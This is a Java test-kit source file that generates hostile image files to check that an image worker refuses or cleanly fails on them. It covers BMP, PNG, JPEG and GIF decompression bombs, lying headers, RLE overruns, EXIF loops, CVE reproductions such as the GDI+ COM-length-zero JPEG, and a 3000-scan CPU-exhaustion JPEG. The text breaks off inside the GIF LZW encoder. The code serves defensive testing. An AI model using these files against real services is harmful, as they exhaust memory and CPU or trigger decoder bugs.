package io.darkroom.testkit;

import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Consumer;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import javax.imageio.ImageIO;

/**
 * Hostile image files, each a known attack on image decoders, generated in code (no binary
 * fixtures), deterministically, each well under 2 MB. ImageIO is used only to make valid base
 * images that are then truncated; everything else is written byte by byte.
 */
public final class HostileFiles {
  private HostileFiles() {}

  /**
   * One hostile file.
   *
   * @param name a file-name-like id, unique among {@link #all()}
   * @param attack one sentence saying what it attacks
   */
  public record HostileFile(String name, String attack, Expect expect, byte[] bytes) {
    @Override
    public String toString() {
      return name + " (" + bytes.length + " bytes, " + expect + ")";
    }
  }

  /** What a careful worker does with the file. */
  public enum Expect {
    /** The magic bytes are not JPEG/PNG/GIF/WebP/BMP/TIFF: refused before any decoder sees it. */
    REFUSED_BY_SNIFFING,
    /**
     * The header alone must make us refuse it before decoding: too many pixels, a side too long, a
     * BMP carrying an embedded JPEG/PNG codec, size fields that disagree with the file, a
     * non-positive size.
     */
    REFUSED_FROM_HEADER,
    /**
     * The header is plausible; decoding must end in a clean failure (truncated data, corrupt
     * streams, lying chunk sizes, looping IFDs, a malformed scan progression, a lying ICC profile).
     */
    FAILS_TO_DECODE,
    /**
     * The image itself is legal but heavy, or only something around it (metadata) is hostile: the
     * worker may process it or refuse it with a permanent code, but must never run out of memory.
     */
    MAY_SUCCEED_WITHIN_MEMORY
  }

  /**
   * A 48x32 lossy WebP written by libwebp (webp-imageio) and checked to decode with the
   * TwelveMonkeys WebP reader; the base for the truncated and lying WebP files.
   */
  static final String VALID_WEBP_48X32 =
      "UklGRtoAAABXRUJQVlA4IM4AAADQBgCdASowACAAPlkijkW0IiGdVAFABYS2AE6ZQjub27zBKa/JvvftCJAfclmACthMuw"
          + "AvR+9NI68YqG8OWkAA/v/UQhpalWOcRyY92L2zJ7++KqtNoF8kAUAN57euBdc/5aEAWCMS/oHSAID1wXiaWS/zdvZG"
          + "sRx2Cq4s4G3PH6Ke201H+g3jY5b1zdUtZPU75AWVVdHsTkhG8XFsgUzp1YS5+Ue416Z1Qoe/TVPt2mBvtR5fJwAiGv"
          + "7JaWsmxtt1ZApncP6/40xhXWfAAA==";

  /** The valid WebP the WebP attacks start from (48x32, lossy VP8). */
  public static byte[] validWebp() {
    return Base64.getDecoder().decode(VALID_WEBP_48X32);
  }

  /**
   * Every hostile file, in a fixed order. Generating them takes a few seconds (two 100 MP PNGs).
   */
  /** One file of {@link #all()} by name, for a test about that attack alone. */
  public static HostileFile named(String name) {
    return all().stream()
        .filter(f -> f.name().equals(name))
        .findFirst()
        .orElseThrow(() -> new IllegalArgumentException("no hostile file " + name));
  }

  public static List<HostileFile> all() {
    return Generated.ALL;
  }

  /** Made once per JVM, on first use: the 100 MP PNGs take a moment to deflate. */
  private static final class Generated {
    static final List<HostileFile> ALL = generate();
  }

  private static List<HostileFile> generate() {
    List<HostileFile> files = new ArrayList<>();
    bmp(files);
    png(files);
    jpeg(files);
    gif(files);
    webp(files);
    tiff(files);
    polyglots(files);
    return List.copyOf(files);
  }

  // ---------------------------------------------------------------------------------------------
  // BMP

  private static final int BI_RGB = 0;
  private static final int BI_RLE8 = 1;
  private static final int BI_JPEG = 4;
  private static final int BI_PNG = 5;

  private static void bmp(List<HostileFile> files) {
    // JDK BMPImageReader.readEmbedded allocates new byte[biSizeImage] before reading: OOM from 118
    // bytes.
    files.add(
        new HostileFile(
            "bmp-embedded-png-huge-size.bmp",
            "A 118-byte BMP using compression BI_PNG (an embedded PNG codec) whose biSizeImage claims"
                + " 1.5 GB, which a reader allocates before reading.",
            Expect.REFUSED_FROM_HEADER,
            bmpEmbedded(BI_PNG, pngSignatureAndJunk())));
    // Same class with the embedded JPEG codec.
    files.add(
        new HostileFile(
            "bmp-embedded-jpeg-huge-size.bmp",
            "A 118-byte BMP using compression BI_JPEG (an embedded JPEG codec) whose biSizeImage"
                + " claims 1.5 GB.",
            Expect.REFUSED_FROM_HEADER,
            bmpEmbedded(BI_JPEG, jpegStartAndJunk())));
    // Size fields trusted for allocation (classic BMP heap overflows in many decoders).
    byte[] pixels = new byte[32 * 10];
    Arrays.fill(pixels, (byte) 0x7F);
    files.add(
        new HostileFile(
            "bmp-size-fields-claim-200mb.bmp",
            "A 10x10 24-bit BMP whose bfSize and biSizeImage both claim 200 MB while the file is 374"
                + " bytes.",
            Expect.REFUSED_FROM_HEADER,
            bmpFile(200_000_000, 10, 10, 24, BI_RGB, 200_000_000, 0, new byte[0], pixels)));
    // Decompression-bomb class: the header alone claims 2.5 gigapixels.
    files.add(
        new HostileFile(
            "bmp-50000x50000.bmp",
            "A 24-bit BMP claiming 50000x50000 (7.5 GB of pixels) in a file of a few dozen bytes.",
            Expect.REFUSED_FROM_HEADER,
            bmpFile(-1, 50_000, 50_000, 24, BI_RGB, 0, 0, new byte[0], new byte[64])));
    // Sign confusion in size arithmetic (negative width * stride).
    files.add(
        new HostileFile(
            "bmp-negative-width.bmp",
            "A 24-bit BMP with biWidth = -10, which signed size arithmetic turns into a negative or"
                + " wrapped buffer size.",
            Expect.REFUSED_FROM_HEADER,
            bmpFile(-1, -10, 10, 24, BI_RGB, 0, 0, new byte[0], pixels)));
    // Zero-size images (division by zero / empty-allocation bugs in scalers).
    files.add(
        new HostileFile(
            "bmp-zero-height.bmp",
            "A 24-bit BMP with biHeight = 0: an image of no pixels that still carries pixel data.",
            Expect.REFUSED_FROM_HEADER,
            bmpFile(-1, 10, 0, 24, BI_RGB, 0, 0, new byte[0], pixels)));
    // RLE runs written past the row and the bitmap: the heap-overflow class of RLE8 decoders.
    files.add(
        new HostileFile(
            "bmp-rle8-runs-past-the-end.bmp",
            "A 16x16 RLE8 BMP whose runs write 51,000 pixels into a 256-pixel bitmap, with a delta"
                + " escape jumping far outside it and no end-of-bitmap marker.",
            Expect.FAILS_TO_DECODE,
            bmpRle8Overrun()));
  }

  private static byte[] bmpEmbedded(int compression, byte[] payload) {
    return bmpFile(-1, 10, 10, 24, compression, 1_500_000_000, 0, new byte[0], payload);
  }

  private static byte[] pngSignatureAndJunk() {
    byte[] out = new byte[64];
    byte[] sig = {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A};
    System.arraycopy(sig, 0, out, 0, sig.length);
    byte[] junk = new byte[out.length - sig.length];
    new Random(5).nextBytes(junk);
    System.arraycopy(junk, 0, out, sig.length, junk.length);
    return out;
  }

  private static byte[] jpegStartAndJunk() {
    byte[] out = new byte[64];
    out[0] = (byte) 0xFF;
    out[1] = (byte) 0xD8;
    out[2] = (byte) 0xFF;
    out[3] = (byte) 0xDB;
    return out;
  }

  /**
   * A BITMAPFILEHEADER + BITMAPINFOHEADER file. {@code bfSize} -1 means the true length; the
   * palette is raw RGBQUADs.
   */
  private static byte[] bmpFile(
      int bfSize,
      int width,
      int height,
      int bitCount,
      int compression,
      int sizeImage,
      int colorsUsed,
      byte[] palette,
      byte[] data) {
    int offBits = 14 + 40 + palette.length;
    int length = offBits + data.length;
    ByteBuffer b = ByteBuffer.allocate(length).order(ByteOrder.LITTLE_ENDIAN);
    b.put((byte) 'B').put((byte) 'M');
    b.putInt(bfSize < 0 ? length : bfSize);
    b.putInt(0); // reserved
    b.putInt(offBits);
    b.putInt(40); // biSize
    b.putInt(width);
    b.putInt(height);
    b.putShort((short) 1); // planes
    b.putShort((short) bitCount);
    b.putInt(compression);
    b.putInt(sizeImage);
    b.putInt(2835); // 72 dpi
    b.putInt(2835);
    b.putInt(colorsUsed);
    b.putInt(0);
    b.put(palette);
    b.put(data);
    return b.array();
  }

  private static byte[] bmpRle8Overrun() {
    Bytes rle = new Bytes();
    for (int i = 0; i < 200; i++) {
      rle.u8(255).u8(1); // a run of 255 pixels of index 1, with no end-of-line anywhere
    }
    rle.u8(0).u8(2).u8(255).u8(255); // delta: move 255 right and 255 down
    rle.u8(0).u8(255); // absolute mode, 255 literal pixels
    for (int i = 0; i < 256; i++) {
      rle.u8(1); // 255 literals and the word-alignment pad; no end-of-bitmap marker follows
    }
    byte[] data = rle.toByteArray();
    byte[] palette = {0, 0, 0, 0, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, 0};
    return bmpFile(-1, 16, 16, 8, BI_RLE8, data.length, 2, palette, data);
  }

  // ---------------------------------------------------------------------------------------------
  // PNG

  private static final byte[] PNG_SIGNATURE = {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A};

  private static void png(List<HostileFile> files) {
    // Decompression bomb by header (Pillow's DecompressionBombError exists for this).
    files.add(
        new HostileFile(
            "png-ihdr-65000x65000.png",
            "A PNG whose IHDR claims 65000x65000 RGB (12.7 GB decoded) followed by a tiny IDAT.",
            Expect.REFUSED_FROM_HEADER,
            png(ihdr(65_000, 65_000, 8, 2), zlib(new byte[64]))));
    // Zlib decompression bomb within the pixel limit: 400 MB decoded from ~400 KB.
    files.add(
        new HostileFile(
            "png-rgba-10000x10000-one-colour.png",
            "A valid 10000x10000 8-bit RGBA PNG of one colour: exactly 100 MP, 400 MB raw, a few"
                + " hundred KB compressed.",
            Expect.MAY_SUCCEED_WITHIN_MEMORY,
            pngOneColour(10_000, 10_000, 8)));
    // The same bomb at 16 bits per sample: twice the memory for the same pixel count.
    files.add(
        new HostileFile(
            "png-rgba16-10000x10000-one-colour.png",
            "A valid 10000x10000 16-bit RGBA PNG of one colour: within 100 MP but 800 MB raw.",
            Expect.MAY_SUCCEED_WITHIN_MEMORY,
            pngOneColour(10_000, 10_000, 16)));
    // Text-chunk decompression bomb: CVE-2014-9601 (Pillow, zTXt/iTXt).
    files.add(
        new HostileFile(
            "png-ztxt-bomb-512mb.png",
            "A valid 16x16 PNG carrying a zTXt chunk that inflates to 512 MB of text.",
            Expect.MAY_SUCCEED_WITHIN_MEMORY,
            pngWithZtxtBomb()));
    // Chunk flood (libpng's user_chunk_cache_max defaults to 1000 against this).
    files.add(
        new HostileFile(
            "png-100000-text-chunks.png",
            "A valid 16x16 PNG preceded by 100,000 tEXt chunks, each a separate metadata entry.",
            Expect.MAY_SUCCEED_WITHIN_MEMORY,
            pngTextFlood(100_000)));
    // Lying chunk length (libpng's user_chunk_malloc_max exists for this).
    files.add(
        new HostileFile(
            "png-text-chunk-claims-2gb.png",
            "A PNG whose tEXt chunk length says 2 GB - 1 while the file ends a few bytes later.",
            Expect.FAILS_TO_DECODE,
            pngLyingChunk()));
    BufferedImage base = baseImage(800, 600, BufferedImage.TYPE_INT_RGB, 11);
    byte[] valid = encode(base, "png");
    // Truncated upload (the most common real-world damage; partial-read error paths).
    files.add(
        new HostileFile(
            "png-truncated-mid-idat.png",
            "A valid 800x600 PNG cut in the middle of its image data.",
            Expect.FAILS_TO_DECODE,
            Arrays.copyOf(valid, midIdat(valid))));
    // Empty image data (end-of-stream handling in inflate loops).
    files.add(
        new HostileFile(
            "png-zero-length-idat.png",
            "A 16x16 PNG whose only IDAT chunk is empty.",
            Expect.FAILS_TO_DECODE,
            png(ihdr(16, 16, 8, 2), new byte[0])));
    // Corrupt deflate stream with valid chunk CRCs (zlib inflate error paths).
    byte[] garbage = new byte[2048];
    new Random(7).nextBytes(garbage);
    garbage[0] = 0x78;
    garbage[1] = (byte) 0x9C;
    files.add(
        new HostileFile(
            "png-corrupt-zlib-stream.png",
            "A 64x64 PNG whose IDAT has a valid zlib header and CRC but random deflate data.",
            Expect.FAILS_TO_DECODE,
            png(ihdr(64, 64, 8, 2), garbage)));
    // Out-of-range palette indexes (the PNG spec calls them an error; cf. libpng CVE-2015-8126).
    // The attack is a read outside the palette: the JDK's pure-Java reader pads its colour model to
    // the full 256 entries, so such pixels come out black and nothing outside it is read.
    files.add(
        new HostileFile(
            "png-palette-index-out-of-range.png",
            "A 16x16 8-bit palette PNG with a 2-entry PLTE whose every pixel is index 200.",
            Expect.MAY_SUCCEED_WITHIN_MEMORY,
            pngPaletteOutOfRange()));
  }

  private static byte[] ihdr(int width, int height, int bitDepth, int colourType) {
    ByteBuffer b = ByteBuffer.allocate(13);
    b.putInt(width).putInt(height);
    b.put((byte) bitDepth).put((byte) colourType).put((byte) 0).put((byte) 0).put((byte) 0);
    return b.array();
  }

  /** Signature, IHDR, one IDAT holding {@code idat} as it is, IEND. */
  private static byte[] png(byte[] ihdr, byte[] idat) {
    Bytes out = new Bytes().raw(PNG_SIGNATURE);
    chunk(out, "IHDR", ihdr);
    chunk(out, "IDAT", idat);
    chunk(out, "IEND", new byte[0]);
    return out.toByteArray();
  }

  private static void chunk(Bytes out, String type, byte[] data) {
    byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
    out.u32be(data.length).raw(typeBytes).raw(data);
    CRC32 crc = new CRC32();
    crc.update(typeBytes);
    crc.update(data);
    out.u32be((int) crc.getValue());
  }

  private static byte[] zlib(byte[] raw) {
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
    deflater.setInput(raw);
    deflater.finish();
    Bytes out = new Bytes();
    byte[] buffer = new byte[64 * 1024];
    while (!deflater.finished()) {
      out.raw(buffer, deflater.deflate(buffer));
    }
    deflater.end();
    return out.toByteArray();
  }

  /**
   * An RGBA PNG of one colour, its IDAT made by streaming rows through a Deflater: the raw image
   * (hundreds of MB) never exists in memory, only one row of it.
   */
  private static byte[] pngOneColour(int width, int height, int bitDepth) {
    int bytesPerPixel = bitDepth / 2; // 4 samples of bitDepth bits
    byte[] row = new byte[1 + width * bytesPerPixel]; // filter type 0 (None), then the pixels
    byte[] pixel =
        bitDepth == 16
            ? new byte[] {
              0x33, 0x33, 0x66, 0x66, (byte) 0x99, (byte) 0x99, (byte) 0xFF, (byte) 0xFF
            }
            : new byte[] {0x33, 0x66, (byte) 0x99, (byte) 0xFF};
    for (int i = 1; i < row.length; i++) {
      row[i] = pixel[(i - 1) % bytesPerPixel];
    }
    Bytes idat = new Bytes();
    deflateRepeated(row, height, idat);
    Bytes out = new Bytes().raw(PNG_SIGNATURE);
    chunk(out, "IHDR", ihdr(width, height, bitDepth, 6));
    chunk(out, "IDAT", idat.toByteArray());
    chunk(out, "IEND", new byte[0]);
    return out.toByteArray();
  }

  /** Deflates {@code times} copies of {@code block} into {@code out}, one block at a time. */
  private static void deflateRepeated(byte[] block, long times, Bytes out) {
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
    byte[] buffer = new byte[64 * 1024];
    for (long i = 0; i < times; i++) {
      deflater.setInput(block);
      while (!deflater.needsInput()) {
        out.raw(buffer, deflater.deflate(buffer));
      }
    }
    deflater.finish();
    while (!deflater.finished()) {
      out.raw(buffer, deflater.deflate(buffer));
    }
    deflater.end();
  }

  /** A valid 16x16 RGB PNG whose ancillary chunks come from {@code ancillary}. */
  private static byte[] pngWith(Consumer<Bytes> ancillary) {
    Bytes out = new Bytes().raw(PNG_SIGNATURE);
    chunk(out, "IHDR", ihdr(16, 16, 8, 2));
    ancillary.accept(out);
    byte[] raw = new byte[16 * (1 + 16 * 3)];
    for (int y = 0; y < 16; y++) {
      for (int x = 0; x < 48; x++) {
        raw[y * 49 + 1 + x] = (byte) (x * 5 + y * 3);
      }
    }
    chunk(out, "IDAT", zlib(raw));
    chunk(out, "IEND", new byte[0]);
    return out.toByteArray();
  }

  private static byte[] pngWithZtxtBomb() {
    Bytes text = new Bytes().raw("Comment".getBytes(StandardCharsets.ISO_8859_1)).u8(0).u8(0);
    deflateRepeated(new byte[1 << 20], 512, text); // 512 MB of zeros, 1 MB at a time
    byte[] ztxt = text.toByteArray();
    return pngWith(out -> chunk(out, "zTXt", ztxt));
  }

  private static byte[] pngTextFlood(int count) {
    byte[] text = {'k', 0, 'v'};
    return pngWith(
        out -> {
          for (int i = 0; i < count; i++) {
            chunk(out, "tEXt", text);
          }
        });
  }

  private static byte[] pngLyingChunk() {
    Bytes out = new Bytes().raw(PNG_SIGNATURE);
    chunk(out, "IHDR", ihdr(100, 100, 8, 2));
    out.u32be(0x7FFFFFFF).raw("tEXt".getBytes(StandardCharsets.US_ASCII));
    out.raw("Comment\0".getBytes(StandardCharsets.ISO_8859_1));
    out.raw(new byte[32]);
    return out.toByteArray();
  }

  private static byte[] pngPaletteOutOfRange() {
    Bytes out = new Bytes().raw(PNG_SIGNATURE);
    chunk(out, "IHDR", ihdr(16, 16, 8, 3));
    chunk(out, "PLTE", new byte[] {0, 0, 0, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF});
    byte[] raw = new byte[16 * 17];
    for (int y = 0; y < 16; y++) {
      Arrays.fill(raw, y * 17 + 1, y * 17 + 17, (byte) 200);
    }
    chunk(out, "IDAT", zlib(raw));
    chunk(out, "IEND", new byte[0]);
    return out.toByteArray();
  }

  /** The offset halfway through a PNG's image data (between the first IDAT and IEND). */
  private static int midIdat(byte[] png) {
    int first = -1;
    int end = -1;
    int pos = 8;
    while (pos + 8 <= png.length) {
      int length = ByteBuffer.wrap(png, pos, 4).getInt();
      String type = new String(png, pos + 4, 4, StandardCharsets.US_ASCII);
      if (type.equals("IDAT") && first < 0) {
        first = pos + 8;
      }
      if (type.equals("IEND")) {
        end = pos;
      }
      pos += 12 + length;
    }
    return first + (end - first) / 2;
  }

  // ---------------------------------------------------------------------------------------------
  // JPEG

  private static final int SOF0 = 0xC0;
  private static final int DHT = 0xC4;

  private static void jpeg(List<HostileFile> files) {
    byte[] small = encode(baseImage(64, 48, BufferedImage.TYPE_INT_RGB, 3), "jpeg");
    // Decompression bomb by header: 4.3 gigapixels claimed by a file of a few hundred bytes.
    files.add(
        new HostileFile(
            "jpeg-sof0-65500x65500.jpg",
            "A baseline JPEG whose SOF0 claims 65500x65500, with valid tables and a few bytes of"
                + " scan.",
            Expect.REFUSED_FROM_HEADER,
            jpegClaiming(encode(baseImage(8, 8, BufferedImage.TYPE_INT_RGB, 1), "jpeg"))));
    byte[] valid = encode(baseImage(800, 600, BufferedImage.TYPE_INT_RGB, 13), "jpeg");
    // Truncated upload, cut inside the table segments.
    files.add(
        new HostileFile(
            "jpeg-truncated-400-bytes.jpg",
            "A valid 800x600 JPEG cut to its first 400 bytes (inside its Huffman tables).",
            Expect.FAILS_TO_DECODE,
            Arrays.copyOf(valid, 400)));
    // Truncated upload, cut inside the entropy-coded scan (libjpeg only warns: "Premature end").
    files.add(
        new HostileFile(
            "jpeg-truncated-at-60-percent.jpg",
            "A valid 800x600 JPEG cut at 60% of its length, in the middle of the scan.",
            Expect.FAILS_TO_DECODE,
            Arrays.copyOf(valid, valid.length * 6 / 10)));
    // CPU exhaustion by scan count (libjpeg-turbo's djpeg -maxscans exists for this).
    files.add(
        new HostileFile(
            "jpeg-progressive-3000-scans.jpg",
            "A 4096x4096 greyscale progressive JPEG of 150 KB that repeats the same AC scan 3000"
                + " times, each scan a pass over all 262,144 blocks (about half a minute of CPU).",
            Expect.FAILS_TO_DECODE,
            progressiveManyScans(4096, 4096, 3000)));
    // ICC profile trust: chunk counts and the profile's own size field drive allocation.
    files.add(
        new HostileFile(
            "jpeg-icc-claims-255-chunks-and-1gb.jpg",
            "A JPEG whose only APP2 ICC_PROFILE chunk says it is 1 of 255 and whose profile header"
                + " declares a 1 GB profile.",
            Expect.FAILS_TO_DECODE,
            insertAfterSoi(small, app2Icc(1, 255, iccHeader(1 << 30, 200)))));
    byte[] junk = new byte[4000];
    new Random(17).nextBytes(junk);
    // Malformed ICC profile (colour-management parsers, e.g. lcms, fed unchecked tag tables).
    files.add(
        new HostileFile(
            "jpeg-icc-garbage.jpg",
            "A JPEG with a complete (1 of 1) APP2 ICC_PROFILE holding 4000 random bytes.",
            Expect.FAILS_TO_DECODE,
            insertAfterSoi(small, app2Icc(1, 1, junk))));
    // EXIF IFD loops (libexif and exiv2 have had several infinite-loop/recursion CVEs).
    files.add(
        new HostileFile(
            "jpeg-exif-ifd-loop.jpg",
            "A valid JPEG whose EXIF IFD0 points to itself both as its next IFD and as its Exif"
                + " sub-IFD.",
            Expect.MAY_SUCCEED_WITHIN_MEMORY,
            insertAfterSoi(small, app1Exif(exifLoop()))));
    // Unbounded recursion through sub-IFD pointers (stack exhaustion in EXIF parsers).
    files.add(
        new HostileFile(
            "jpeg-exif-3000-nested-ifds.jpg",
            "A valid JPEG whose EXIF nests 3000 Exif sub-IFDs, each pointing to the next"
                + " (recursion depth).",
            Expect.MAY_SUCCEED_WITHIN_MEMORY,
            insertAfterSoi(small, app1Exif(exifNested(3000)))));
    // Huffman table parsing (bogus code counts: more than 256 codes).
    files.add(
        new HostileFile(
            "jpeg-dht-garbage.jpg",
            "A valid JPEG whose first DHT declares 255 codes of every length (4080 codes for 256"
                + " symbols).",
            Expect.FAILS_TO_DECODE,
            corruptFirstDht(small)));
    // CVE-2004-0200 (MS04-028, GDI+ "JPEG of death"): COM length 0 underflows length - 2.
    files.add(
        new HostileFile(
            "jpeg-com-length-zero.jpg",
            "A JPEG with a COM segment of length 0, which underflows when the 2 length bytes are"
                + " subtracted.",
            Expect.FAILS_TO_DECODE,
            insertAfterSoi(small, new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0})));
  }

  /** The JPEG with the size in its SOF0 replaced by 65500x65500. */
  private static byte[] jpegClaiming(byte[] jpeg) {
    byte[] out = jpeg.clone();
    int sof = findMarker(out, SOF0);
    ByteBuffer b = ByteBuffer.wrap(out);
    b.putShort(sof + 5, (short) 65_500); // height
    b.putShort(sof + 7, (short) 65_500); // width
    return out;
  }

  /** The offset of the first marker {@code FF code} among the segments before the scan. */
  private static int findMarker(byte[] jpeg, int code) {
    int pos = 2;
    while (pos + 4 <= jpeg.length) {
      int marker = jpeg[pos + 1] & 0xFF;
      if (marker == code) {
        return pos;
      }
      if (marker == 0xDA) {
        break;
      }
      pos += 2 + (((jpeg[pos + 2] & 0xFF) << 8) | (jpeg[pos + 3] & 0xFF));
    }
    throw new IllegalStateException("no marker " + Integer.toHexString(code));
  }

  private static byte[] insertAfterSoi(byte[] jpeg, byte[] segment) {
    return new Bytes()
        .raw(jpeg, 2)
        .raw(segment)
        .raw(Arrays.copyOfRange(jpeg, 2, jpeg.length))
        .toByteArray();
  }

  private static byte[] segment(int marker, byte[] body) {
    return new Bytes().u8(0xFF).u8(marker).u16be(body.length + 2).raw(body).toByteArray();
  }

  private static byte[] app2Icc(int sequence, int count, byte[] profile) {
    Bytes body = new Bytes().raw("ICC_PROFILE\0".getBytes(StandardCharsets.US_ASCII));
    body.u8(sequence).u8(count).raw(profile);
    return segment(0xE2, body.toByteArray());
  }

  /** A 128-byte ICC header declaring {@code declaredSize} bytes, then {@code tail} more bytes. */
  private static byte[] iccHeader(int declaredSize, int tail) {
    ByteBuffer b = ByteBuffer.allocate(128 + tail);
    b.putInt(declaredSize);
    b.put("lcms".getBytes(StandardCharsets.US_ASCII));
    b.putInt(0x04300000); // version 4.3
    b.put("mntr".getBytes(StandardCharsets.US_ASCII));
    b.put("RGB ".getBytes(StandardCharsets.US_ASCII));
    b.put("XYZ ".getBytes(StandardCharsets.US_ASCII));
    b.position(36);
    b.put("acsp".getBytes(StandardCharsets.US_ASCII));
    b.position(128);
    b.putInt(1_000_000); // tag count
    return b.array();
  }

  private static byte[] app1Exif(byte[] tiff) {
    Bytes body = new Bytes().raw("Exif\0\0".getBytes(StandardCharsets.US_ASCII)).raw(tiff);
    return segment(0xE1, body.toByteArray());
  }

  /** Little-endian TIFF: IFD0 at 8 with Orientation and an Exif pointer to itself, next = 8. */
  private static byte[] exifLoop() {
    Bytes t = new Bytes().u8('I').u8('I').u16le(42).u32le(8);
    t.u16le(2);
    t.u16le(0x0112).u16le(3).u32le(1).u16le(1).u16le(0); // Orientation = 1
    t.u16le(0x8769).u16le(4).u32le(1).u32le(8); // ExifIFD -> IFD0 itself
    t.u32le(8); // next IFD -> IFD0 itself
    return t.toByteArray();
  }

  /**
   * IFD0 with an Exif pointer to an IFD whose Exif pointer goes to the next, {@code depth} deep.
   */
  private static byte[] exifNested(int depth) {
    Bytes t = new Bytes().u8('I').u8('I').u16le(42).u32le(8);
    int ifdSize = 2 + 12 + 4;
    for (int i = 0; i < depth; i++) {
      int next = 8 + (i + 1) * ifdSize;
      t.u16le(1);
      if (i < depth - 1) {
        t.u16le(0x8769).u16le(4).u32le(1).u32le(next);
      } else {
        t.u16le(0x0112).u16le(3).u32le(1).u16le(1).u16le(0);
      }
      t.u32le(0);
    }
    return t.toByteArray();
  }

  private static byte[] corruptFirstDht(byte[] jpeg) {
    byte[] out = jpeg.clone();
    int dht = findMarker(out, DHT);
    Arrays.fill(out, dht + 5, dht + 5 + 16, (byte) 0xFF); // after FF C4, length, Tc/Th
    return out;
  }

  /**
   * A 1-component progressive JPEG: one DC scan, then the same AC first scan (Ss=1, Se=63, Ah=Al=0)
   * {@code scans} times. Each AC scan is a few 14-bit EOB runs (16384 blocks each) covering every
   * block, so it costs a few dozen bytes however large the image; libjpeg does not even warn, since
   * Ah matches the bits already decoded.
   */
  private static byte[] progressiveManyScans(int width, int height, int scans) {
    int blocks = ((width + 7) / 8) * ((height + 7) / 8);
    if (blocks % (1 << 14) != 0) {
      throw new IllegalArgumentException("the block count must be a multiple of 16384");
    }
    Bytes out = new Bytes().u8(0xFF).u8(0xD8);
    byte[] dqt = new byte[65];
    Arrays.fill(dqt, 1, 65, (byte) 1);
    out.raw(segment(0xDB, dqt));
    out.raw(
        segment(
            0xC2,
            new Bytes().u8(8).u16be(height).u16be(width).u8(1).u8(1).u8(0x11).u8(0).toByteArray()));
    // One code of length 1 in each table: DC symbol 0 (no difference), AC symbol 0xE0 (EOB run of
    // 2^14 + 14 extra bits).
    byte[] dcTable = new byte[1 + 16 + 1];
    dcTable[0] = 0x00;
    dcTable[1] = 1;
    dcTable[17] = 0x00;
    byte[] acTable = dcTable.clone();
    acTable[0] = 0x10;
    acTable[17] = (byte) 0xE0;
    out.raw(segment(0xC4, dcTable)).raw(segment(0xC4, acTable));
    // DC first scan: one 0 bit per block.
    out.raw(segment(0xDA, new byte[] {1, 1, 0x00, 0, 0, 0x00}));
    out.raw(new byte[(blocks + 7) / 8]);
    // Each run: code '0' and 14 extra bits of 0 (a run of exactly 16384), all zero bits; the scan
    // is padded to a byte with 1 bits.
    int bits = (blocks >> 14) * 15;
    byte[] acScan = new byte[(bits + 7) / 8];
    int pad = acScan.length * 8 - bits;
    acScan[acScan.length - 1] = (byte) ((1 << pad) - 1);
    byte[] sos = segment(0xDA, new byte[] {1, 1, 0x00, 1, 63, 0x00});
    for (int i = 0; i < scans; i++) {
      out.raw(sos).raw(acScan);
    }
    return out.u8(0xFF).u8(0xD9).toByteArray();
  }

  // ---------------------------------------------------------------------------------------------
  // GIF

  private static void gif(List<HostileFile> files) {
    // Canvas allocation from the logical screen (every animation compositor allocates it).
    files.add(
        new HostileFile(
            "gif-screen-65535x65535-image-1x1.gif",
            "A GIF whose logical screen is 65535x65535 (4.3 gigapixels of canvas) holding one 1x1"
                + " image.",
            Expect.REFUSED_FROM_HEADER,
            gif(65_535, 65_535, 1, 1, 1)));
    // Frame-count exhaustion (animated-GIF decoders that decode or composite every frame).
    files.add(
        new HostileFile(
            "gif-2000-frames.gif",
            "A valid 64x64 animated GIF of 2000 frames, each with its own graphic control"
                + " extension.",
            Expect.MAY_SUCCEED_WITHIN_MEMORY,
            gif(64, 64, 64, 64, 2000)));
    BufferedImage base = baseImage(800, 600, BufferedImage.TYPE_BYTE_INDEXED, 19);
    byte[] valid = encode(base, "gif");
    // Truncated upload inside LZW data (giflib's "premature end" paths).
    files.add(
        new HostileFile(
            "gif-truncated-mid-image.gif",
            "A valid 800x600 GIF cut at half its length, in the middle of its LZW data.",
            Expect.FAILS_TO_DECODE,
            Arrays.copyOf(valid, valid.length / 2)));
  }

  /**
   * A GIF89a with a 2-colour global table, a NETSCAPE loop extension and {@code frames} solid
   * frames of the given size, alternating colours.
   */
  private static byte[] gif(int screenW, int screenH, int frameW, int frameH, int frames) {
    Bytes out = new Bytes().raw("GIF89a".getBytes(StandardCharsets.US_ASCII));
    out.u16le(screenW).u16le(screenH).u8(0x80).u8(0).u8(0); // global table of 2 colours
    out.u8(0).u8(0).u8(0).u8(0xFF).u8(0xFF).u8(0xFF);
    if (frames > 1) {
      out.u8(0x21).u8(0xFF).u8(11).raw("NETSCAPE2.0".getBytes(StandardCharsets.US_ASCII));
      out.u8(3).u8(1).u16le(0).u8(0);
    }
    byte[][] lzw = new byte[2][];
    for (int colour = 0; colour < 2; colour++) {
      byte[] pixels = new byte[frameW * frameH];
      Arrays.fill(pixels, (byte) colour);
      lzw[colour] = lzw(pixels, 2);
    }
    for (int i = 0; i < frames; i++) {
      out.u8(0x21).u8(0xF9).u8(4).u8(0x04).u16le(2).u8(0).u8(0); // GCE: keep, 20 ms
      out.u8(0x2C).u16le(0).u16le(0).u16le(frameW).u16le(frameH).u8(0);
      out.u8(2);
      subBlocks(out, lzw[i % 2]);
    }
    return out.u8(0x3B).toByteArray();
  }

  private static void subBlocks(Bytes out, byte[] data) {
    for (int i = 0; i < data.length; i += 255) {
      int n = Math.min(255, data.length - i);
      out.u8(n).raw(Arrays.copyOfRange(data, i, i + n));
    }
    out.u8(0);
  }

  /** A GIF LZW encoder (variable code size, LSB first, a clear code before the table fills). */
  private static byte[] lzw(byte[] pixels, int minCodeSize) {
    int clear = 1 << minCodeSize;
    int end = clear + 1;
    Bytes out = new Bytes();
